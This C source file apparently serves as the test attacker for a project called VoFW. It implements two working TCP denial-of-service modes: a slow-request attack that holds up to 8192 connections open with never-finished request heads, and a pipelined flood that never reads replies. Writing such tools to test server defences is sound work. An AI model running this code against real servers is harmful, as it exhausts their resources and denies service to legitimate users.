/*
 * connflood: the TCP attacker of VoFW's tests. It holds many connections
 * from one source address to a port and trickles bytes into them (slow
 * request heads, never finished), opening a new one whenever the server
 * closes or refuses one; or it floods one connection with a pipelined
 * request without ever reading the answers.
 */
#define _GNU_SOURCE
#include <sys/types.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define CONNFLOOD_MAX	8192

struct connflood_slot {
	int		 fd;		/* -1: closed */
	size_t		 sent;		/* bytes of the payload sent */
	long long	 next_ms;	/* when to send or reconnect */
	int		 connecting;
};

static volatile sig_atomic_t connflood_stop;

static void	connflood_term(int);
static void	connflood_usage(void) __attribute__((noreturn));
static void	connflood_die(const char *, ...)
		    __attribute__((format(printf, 1, 2), noreturn));
static long	connflood_num(const char *, const char *, long, long);
static long long connflood_now_ms(void);
static void	connflood_addr(struct sockaddr_in *, const char *, int);
static int	connflood_open(const struct sockaddr_in *,
		    const struct sockaddr_in *);
static void	connflood_nofile(void);
static size_t	connflood_unescape(char *);
static int	connflood_slow(int, char **);
static int	connflood_pipe(int, char **);

#define CONNFLOOD_SYNOPSIS \
"usage: connflood slow SRC_IP DST_IP PORT COUNT INTERVAL_MS RETRY_MS SECONDS\n" \
"                      PAYLOAD\n" \
"       connflood pipe SRC_IP DST_IP PORT BYTES SECONDS PAYLOAD\n" \
"\n" \
"slow  hold COUNT connections, each sending the next byte of PAYLOAD every\n" \
"      INTERVAL_MS (never its end: the payload is cycled without its last\n" \
"      byte), reopening any the server closes RETRY_MS later, for SECONDS;\n" \
"      then print\n" \
"      'opened N closed M open K'\n" \
"pipe  on one connection, write PAYLOAD again and again until BYTES are\n" \
"      written or SECONDS pass, never reading; print 'written N'\n" \
"PAYLOAD takes \\r and \\n escapes\n"

/* SIGTERM: end the attack and print what it did. */
static void
connflood_term(int sig)
{
	(void)sig;
	connflood_stop = 1;
}

/* Print the synopsis and exit 2: the command line was wrong. */
static void
connflood_usage(void)
{
	fputs(CONNFLOOD_SYNOPSIS, stderr);
	exit(2);
}

/* Print a message with strerror(errno) and exit 1. */
static void
connflood_die(const char *fmt, ...)
{
	va_list	 ap;
	int	 saved = errno;

	fputs("connflood: ", stderr);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fprintf(stderr, ": %s\n", strerror(saved));
	exit(1);
}

/* Parse a decimal number in [min, max]; anything else is a usage error. */
static long
connflood_num(const char *what, const char *s, long min, long max)
{
	char	*end;
	long	 v;

	if (s[0] < '0' || s[0] > '9')
		connflood_usage();
	errno = 0;
	v = strtol(s, &end, 10);
	if (errno != 0 || *end != '\0' || v < min || v > max) {
		fprintf(stderr, "connflood: %s out of range: '%s'\n", what, s);
		connflood_usage();
	}
	return v;
}

/* Milliseconds on the monotonic clock. */
static long long
connflood_now_ms(void)
{
	struct timespec	 ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* An IPv4 address and port; a bad address is a usage error. */
static void
connflood_addr(struct sockaddr_in *sin, const char *ip, int port)
{
	memset(sin, 0, sizeof(*sin));
	sin->sin_family = AF_INET;
	sin->sin_port = htons((uint16_t)port);
	if (inet_pton(AF_INET, ip, &sin->sin_addr) != 1)
		connflood_usage();
}

/* Start a non-blocking connect from src to dst; -1 if it fails at once. */
static int
connflood_open(const struct sockaddr_in *src, const struct sockaddr_in *dst)
{
	int	 fd, one = 1;

	if ((fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC,
	    0)) == -1)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (const struct sockaddr *)src, sizeof(*src)) == -1 ||
	    (connect(fd, (const struct sockaddr *)dst, sizeof(*dst)) == -1 &&
	    errno != EINPROGRESS)) {
		close(fd);
		return -1;
	}
	return fd;
}

/* As many descriptors as the hard limit allows. */
static void
connflood_nofile(void)
{
	struct rlimit	 rl;

	if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
}

/* Decode \r and \n in place. */
static size_t
connflood_unescape(char *s)
{
	char	*r, *w;

	for (r = w = s; *r != '\0'; r++, w++) {
		if (r[0] == '\\' && r[1] == 'r') {
			*w = '\r';
			r++;
		} else if (r[0] == '\\' && r[1] == 'n') {
			*w = '\n';
			r++;
		} else
			*w = *r;
	}
	*w = '\0';
	return (size_t)(w - s);
}

/* The slow attack: many connections, a byte each every interval. */
static int
connflood_slow(int argc, char **argv)
{
	static struct connflood_slot	 slots[CONNFLOOD_MAX];
	static struct pollfd		 pfd[CONNFLOOD_MAX];
	struct sockaddr_in		 src, dst;
	long				 count, interval, retry, seconds, i;
	long long			 end, now;
	unsigned long			 opened = 0, closed = 0, open_now;
	size_t				 plen;
	char				 buf[4096];
	int				 n, err;
	socklen_t			 elen;

	if (argc != 9)
		connflood_usage();
	connflood_addr(&src, argv[1], 0);
	connflood_addr(&dst, argv[2], (int)connflood_num("port", argv[3], 1,
	    65535));
	count = connflood_num("count", argv[4], 1, CONNFLOOD_MAX);
	interval = connflood_num("interval", argv[5], 1, 600000);
	retry = connflood_num("retry", argv[6], 1, 600000);
	seconds = connflood_num("seconds", argv[7], 1, 3600);
	if ((plen = connflood_unescape(argv[8])) < 2)
		connflood_usage();
	plen--;		/* the last byte never goes: nothing completes */
	connflood_nofile();
	now = connflood_now_ms();
	end = now + seconds * 1000;
	for (i = 0; i < count; i++) {
		slots[i].fd = -1;
		/* Spread the first connects over one interval. */
		slots[i].next_ms = now + i * interval / count;
	}
	while (!connflood_stop && (now = connflood_now_ms()) < end) {
		for (i = 0; i < count; i++) {
			pfd[i].fd = -1;
			pfd[i].events = 0;
			if (slots[i].fd == -1 && now >= slots[i].next_ms) {
				slots[i].fd = connflood_open(&src, &dst);
				slots[i].sent = 0;
				slots[i].connecting = 1;
				slots[i].next_ms = now + retry;
				if (slots[i].fd != -1)
					opened++;
			}
			if (slots[i].fd == -1)
				continue;
			pfd[i].fd = slots[i].fd;
			pfd[i].events = POLLIN | (slots[i].connecting ?
			    POLLOUT : 0);
			if (!slots[i].connecting && now >= slots[i].next_ms) {
				n = (int)send(slots[i].fd, argv[8] +
				    slots[i].sent % plen, 1, MSG_NOSIGNAL);
				if (n == 1)
					slots[i].sent++;
				slots[i].next_ms = now + interval;
			}
		}
		if (poll(pfd, (nfds_t)count, 50) == -1 && errno != EINTR)
			connflood_die("poll");
		now = connflood_now_ms();
		for (i = 0; i < count; i++) {
			if (pfd[i].fd == -1 || pfd[i].revents == 0)
				continue;
			if (slots[i].connecting && (pfd[i].revents & POLLOUT)) {
				elen = sizeof(err);
				if (getsockopt(pfd[i].fd, SOL_SOCKET, SO_ERROR,
				    &err, &elen) == 0 && err == 0) {
					slots[i].connecting = 0;
					slots[i].next_ms = now;
					continue;
				}
			}
			if ((pfd[i].revents & POLLIN) && !(pfd[i].revents &
			    (POLLERR | POLLHUP)) && (n = (int)recv(pfd[i].fd,
			    buf, sizeof(buf), 0)) > 0)
				continue;
			/* Closed or refused: open another after a while. */
			close(slots[i].fd);
			slots[i].fd = -1;
			slots[i].next_ms = now + retry;
			closed++;
		}
	}
	open_now = 0;
	for (i = 0; i < count; i++)
		if (slots[i].fd != -1) {
			open_now++;
			close(slots[i].fd);
		}
	printf("opened %lu closed %lu open %lu\n", opened, closed, open_now);
	return 0;
}

/* The pipelined flood: one connection, requests written, never read. */
static int
connflood_pipe(int argc, char **argv)
{
	struct sockaddr_in	 src, dst;
	struct pollfd		 pfd;
	char			 buf[65536];
	long			 bytes, seconds;
	long long		 end, written = 0;
	size_t			 plen, fill;
	ssize_t			 n;

	if (argc != 7)
		connflood_usage();
	connflood_addr(&src, argv[1], 0);
	connflood_addr(&dst, argv[2], (int)connflood_num("port", argv[3], 1,
	    65535));
	bytes = connflood_num("bytes", argv[4], 1, 0x7fffffffL);
	seconds = connflood_num("seconds", argv[5], 1, 3600);
	if ((plen = connflood_unescape(argv[6])) == 0 || plen > sizeof(buf))
		connflood_usage();
	for (fill = 0; fill + plen <= sizeof(buf); fill += plen)
		memcpy(buf + fill, argv[6], plen);
	if ((pfd.fd = connflood_open(&src, &dst)) == -1)
		connflood_die("connect");
	pfd.events = POLLOUT;
	end = connflood_now_ms() + seconds * 1000;
	while (!connflood_stop && written < bytes &&
	    connflood_now_ms() < end) {
		if (poll(&pfd, 1, 100) == -1 && errno != EINTR)
			connflood_die("poll");
		if (!(pfd.revents & (POLLOUT | POLLERR | POLLHUP)))
			continue;
		n = send(pfd.fd, buf, bytes - written < (long long)fill ?
		    (size_t)(bytes - written) : fill, MSG_NOSIGNAL);
		if (n == -1 && (errno == EAGAIN || errno == EINTR ||
		    errno == ENOTCONN))
			continue;
		if (n <= 0)
			break;
		written += n;
	}
	printf("written %lld\n", written);
	fflush(stdout);
	/* Hold the connection, answers unread, until the time is up. */
	while (!connflood_stop && connflood_now_ms() < end)
		poll(NULL, 0, 100);
	close(pfd.fd);
	return 0;
}

int
main(int argc, char **argv)
{
	signal(SIGPIPE, SIG_IGN);
	signal(SIGTERM, connflood_term);
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2)
		connflood_usage();
	if (strcmp(argv[1], "slow") == 0)
		return connflood_slow(argc - 1, argv + 1);
	if (strcmp(argv[1], "pipe") == 0)
		return connflood_pipe(argc - 1, argv + 1);
	connflood_usage();
}
